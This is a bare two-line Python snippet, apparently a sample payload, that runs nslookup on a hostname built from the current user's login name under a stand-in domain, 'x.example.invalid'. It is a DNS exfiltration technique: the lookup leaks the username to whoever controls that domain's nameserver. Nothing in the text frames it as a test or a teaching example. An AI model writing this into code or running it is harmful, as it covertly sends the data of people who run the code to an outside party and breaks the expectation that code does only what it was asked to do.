import getpass, subprocess
subprocess.run(["nslookup", f"{getpass.getuser()}.x.example.invalid"])
